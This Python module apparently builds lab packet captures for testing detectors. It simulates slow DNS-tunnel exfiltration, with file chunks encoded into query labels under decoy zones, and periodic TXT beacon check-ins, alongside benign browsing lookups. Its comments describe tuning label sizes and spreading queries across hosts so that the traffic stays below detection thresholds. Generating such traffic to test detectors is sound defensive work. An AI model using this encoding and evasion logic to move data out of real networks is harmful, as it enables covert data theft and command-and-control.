"""Low-and-slow captures for the long-horizon detectors, made in the lab (``lab.topology``).

Each capture is one client's slow workload through the lab's real resolver (Unbound), beside
a browsing client's benign lookups, captured on the client↔resolver link:

``exfil``   a file leaves in chunks, one query every 30-120 s (uniform), for two hours: Base32,
            hex, or Base64-like (mixed case, ``-``/``_``) labels under a plausible zone;
``beacon``  a C2 implant that mostly sleeps: one TXT check-in every 60 s ± 15 %, each under a
            name never asked before (session id and counter), no data.
``multi``   one file leaving from several hosts at once, each sending a few chunks slowly
            (one query every 4-8 minutes per host, Base32): each client → domain pair stays
            below every bar (no host sends enough, nor regularly enough, to be a beacon); only
            the domain, all hosts together, carries a file's worth of new names.

The workload runs ``--speedup`` times faster than the real schedule and the capture's
timestamps are then multiplied by the same factor (``lab.capture.rescale``: only timestamps
change); the manifest states the factor. Run as root::

    python -m lab.slow_exfil --out pcaps/slow --speedup 60 slow_exfil_b32 slow_exfil_hex \
        slow_exfil_b64 slow_beacon slow_exfil_multi

and each capture gets a ``<name>.json`` manifest beside it (zone, client, encoding, schedule,
speed-up, query count, the lab's description).
"""

from __future__ import annotations

import argparse
import base64
import json
import random
import sys
import threading
import time
import zlib
from dataclasses import asdict, dataclass
from pathlib import Path

from lab.capture import rescale
from lab.topology import Lab, LabConfig, LabContext


@dataclass
class Plan:
    name: str
    kind: str              # "exfil" or "beacon"
    zone: str              # the tunnel's base domain (what truth.yaml names)
    encoding: str = ""     # b32 | hex | b64 (exfil)
    lo: float = 30.0       # seconds between queries (real schedule): uniform in [lo, hi]
    hi: float = 120.0
    hours: float = 2.0
    seed: int = 1
    hosts: int = 1         # slow clients (multi: each on its own schedule of lo..hi)


PLANS = {
    "slow_exfil_b32": Plan("slow_exfil_b32", "exfil", "cdn-metrics-sync.com", "b32", seed=11),
    "slow_exfil_hex": Plan("slow_exfil_hex", "exfil", "edge.telemetry-hub.net", "hex", seed=12),
    "slow_exfil_b64": Plan("slow_exfil_b64", "exfil", "assets-cache.org", "b64", seed=13),
    "slow_beacon": Plan("slow_beacon", "beacon", "status.cloud-checkin.net", lo=51.0, hi=69.0,
                   hours=2.0, seed=14),
    "slow_exfil_multi": Plan("slow_exfil_multi", "multi", "sync.docs-preview.net", "b32",
                             lo=240.0, hi=480.0, seed=15, hosts=5),
}

# What the browsing client looks up: popular sites and the hosts their pages pull in.
SITES = ["www.google.com", "www.youtube.com", "www.wikipedia.org", "en.wikipedia.org",
         "upload.wikimedia.org", "www.github.com", "api.github.com", "github.githubassets.com",
         "avatars.githubusercontent.com", "www.reddit.com", "www.redditstatic.com",
         "i.redd.it", "news.ycombinator.com", "www.bbc.co.uk", "static.files.bbci.co.uk",
         "www.nytimes.com", "static01.nyt.com", "www.amazon.com", "images-na.ssl-images-amazon.com",
         "fonts.googleapis.com", "fonts.gstatic.com", "ajax.googleapis.com", "www.gstatic.com",
         "cdn.jsdelivr.net", "cdnjs.cloudflare.com", "www.cloudflare.com", "stackoverflow.com",
         "cdn.sstatic.net", "i.stack.imgur.com", "www.linkedin.com", "static.licdn.com",
         "twitter.com", "abs.twimg.com", "pbs.twimg.com", "www.microsoft.com",
         "login.microsoftonline.com", "outlook.office365.com", "www.apple.com",
         "connectivitycheck.gstatic.com", "detectportal.firefox.com", "ocsp.digicert.com",
         "r3.o.lencr.org", "www.mozilla.org", "incoming.telemetry.mozilla.org",
         "docs.python.org", "pypi.org", "files.pythonhosted.org", "www.debian.org",
         "deb.debian.org", "security.debian.org", "www.netflix.com", "assets.nflxext.com",
         "www.spotify.com", "open.spotifycdn.com", "www.twitch.tv", "static.twitchcdn.net",
         "www.instagram.com", "static.cdninstagram.com", "www.facebook.com",
         "static.xx.fbcdn.net", "www.yahoo.com", "s.yimg.com", "duckduckgo.com",
         "www.theguardian.com", "assets.guim.co.uk", "www.cnn.com", "cdn.cnn.com"]


def _data(plan: Plan) -> bytes:
    """The file that leaves: a compressed text, as an exfiltration tool would send it."""
    rng = random.Random(plan.seed)
    words = ["invoice", "customer", "account", "password", "salary", "contract", "total",
             "payment", "employee", "address", "confidential", "project", "budget"]
    text = "\n".join(f"{rng.choice(words)},{rng.randrange(10**6)},{rng.choice(words)}-"
                     f"{rng.randrange(10**4)}" for _ in range(2000))
    return zlib.compress(text.encode(), 9)


def _chunk_name(plan: Plan, seq: int, chunk: bytes, session: str) -> str:
    if plan.encoding == "b32":
        label = base64.b32encode(chunk).decode().rstrip("=").lower()
    elif plan.encoding == "hex":
        label = chunk.hex()
    else:  # Base64 with DNS-safe symbols, case kept (tools do this: '-' and '_')
        label = base64.b64encode(chunk, altchars=b"-_").decode().rstrip("=")
    return f"{label}.{seq:x}{session}.{plan.zone}"


def exfil_names(plan: Plan, count: int) -> list[tuple[str, str]]:
    """(name, type) of each query of an exfiltration, in order."""
    rng = random.Random(plan.seed)
    data = _data(plan)
    session = f"{rng.randrange(1 << 16):04x}"
    # Bytes per chunk: labels of 38-48 (Base32), 36-48 (hex), 24-32 (Base64) characters, the
    # last below the 40 characters at which one name alone looks like exfiltration.
    size = {"b32": 30, "hex": 24, "b64": 24}[plan.encoding]
    out, pos, seq = [], 0, 0
    while len(out) < count:
        if pos >= len(data):
            pos = 0  # the next file: the loop runs for the whole schedule
        n = rng.randint(size - 6, size)
        out.append((_chunk_name(plan, seq, data[pos:pos + n], session), "A"))
        pos += n
        seq += 1
    return out


def beacon_names(plan: Plan, count: int) -> list[tuple[str, str]]:
    rng = random.Random(plan.seed)
    sid = f"{rng.randrange(1 << 32):08x}"
    return [(f"{sid}-{i:x}.{plan.zone}", "TXT") for i in range(count)]


def _slow_client(ctx: LabContext, names: list, delays: list, sources: list) -> dict:
    """Runs in the client namespace: the slow workload's queries on its schedule, each from
    its source address (one slow client, or several: ``multi``)."""
    import dns.message
    import dns.query

    sent = answered = 0
    for (name, rdtype), delay, source in zip(names, delays, sources, strict=True):
        if time.time() + delay > ctx.deadline:
            break
        time.sleep(delay)
        q = dns.message.make_query(name, rdtype)
        sent += 1
        try:
            dns.query.udp(q, ctx.resolver, timeout=2.0, source=source)
            answered += 1
        except Exception:  # noqa: BLE001 - a lost answer is part of the record, not an error
            pass
    return {"sent": sent, "answered": answered}


def schedule(plan: Plan, rng: random.Random) -> list[tuple[float, int]]:
    """(time, host) of each slow query over the plan's hours (real schedule): each host on
    its own clock, one query every ``lo``..``hi`` seconds (uniform), the first after a random
    part of one period."""
    real = plan.hours * 3600.0
    out = []
    for h in range(plan.hosts):
        t = rng.uniform(0.0, plan.hi) if plan.hosts > 1 else 0.0
        while True:
            d = rng.uniform(plan.lo, plan.hi)
            if t + d > real:
                break
            t += d
            out.append((t, h))
    out.sort()
    return out


def _browser(ctx: LabContext, seconds: float, rate: float, source: str, seed: int) -> dict:
    """Runs in the client namespace: a browsing client's lookups (A, AAAA, some HTTPS) at
    about ``rate`` queries a second, in page-sized bursts."""
    import dns.message
    import dns.query

    rng = random.Random(seed)
    end = min(time.time() + seconds, ctx.deadline)
    sent = 0
    while time.time() < end:
        page = rng.sample(SITES, rng.randint(2, 8))
        for host in page:
            for rdtype in ("A", "AAAA") + (("HTTPS",) if rng.random() < 0.3 else ()):
                try:
                    dns.query.udp(dns.message.make_query(host, rdtype), ctx.resolver,
                                  timeout=1.0, source=source)
                except Exception:  # noqa: BLE001
                    pass
                sent += 1
        time.sleep(rng.expovariate(rate / (len(page) * 2.3)))
    return {"sent": sent}


def make(plan: Plan, out: Path, speedup: float, browse_rate: float) -> dict:
    rng = random.Random(plan.seed * 7 + 1)
    times = schedule(plan, rng)
    delays = [(t - (times[i - 1][0] if i else 0.0)) / speedup for i, (t, _) in enumerate(times)]
    names = (beacon_names if plan.kind == "beacon" else exfil_names)(plan, len(delays))
    run = sum(delays) + 10.0
    with Lab(LabConfig(clients=3 + plan.hosts, seed=plan.seed, seconds=run + 120)) as lab:
        hosts = lab.clients[1:1 + plan.hosts]
        browser = lab.clients[1 + plan.hosts]
        slow = hosts[0] if plan.hosts == 1 else hosts
        raw = out / f".{plan.name}.raw.pcap"
        cap = lab.capture(raw, seconds=run + 60)
        time.sleep(1.0)
        res: dict = {}

        def browse() -> None:
            res["browser"] = lab.call(_browser, lab.context(), run, browse_rate, browser,
                                      plan.seed, timeout=run + 30)

        th = threading.Thread(target=browse)
        th.start()
        res["slow"] = lab.call(_slow_client, lab.context(), names, delays,
                               [hosts[h] for _, h in times], timeout=run + 30)
        th.join()
        time.sleep(1.0)
        cap.stop()
        desc = lab.describe()
    dst = out / f"{plan.name}.pcap"
    n = rescale(raw, dst, speedup)
    raw.unlink()
    raw.with_name(raw.name + ".log").unlink(missing_ok=True)  # tcpdump's own log
    manifest = {"capture": dst.name, "plan": asdict(plan), "speedup": speedup,
                "timestamps": f"offsets from the first packet multiplied by {speedup:g} "
                              "(lab.capture.rescale); nothing else changed",
                "slow_client": slow, "browsing_client": browser,
                "slow_queries_per_client": {hosts[h]: sum(1 for _, k in times if k == h)
                                            for h in range(plan.hosts)},
                "browse_rate_per_s_before_rescale": browse_rate,
                "queries": res, "packets": n, "kernel_drops": cap.dropped, "lab": desc}
    (out / f"{plan.name}.json").write_text(json.dumps(manifest, indent=1) + "\n")
    return manifest


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("plans", nargs="+", choices=sorted(PLANS))
    ap.add_argument("--out", type=Path, default=Path("pcaps/slow"))
    ap.add_argument("--speedup", type=float, default=60.0)
    ap.add_argument("--hours", type=float, default=None, help="override the schedule's length")
    ap.add_argument("--browse-rate", type=float, default=4.0,
                    help="browsing queries per second of the fast run")
    a = ap.parse_args(argv)
    a.out.mkdir(parents=True, exist_ok=True)
    for name in a.plans:
        plan = PLANS[name]
        if a.hours is not None:
            plan.hours = a.hours
        m = make(plan, a.out, a.speedup, a.browse_rate)
        print(f"{m['capture']}: {m['packets']} packets, {m['queries']}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
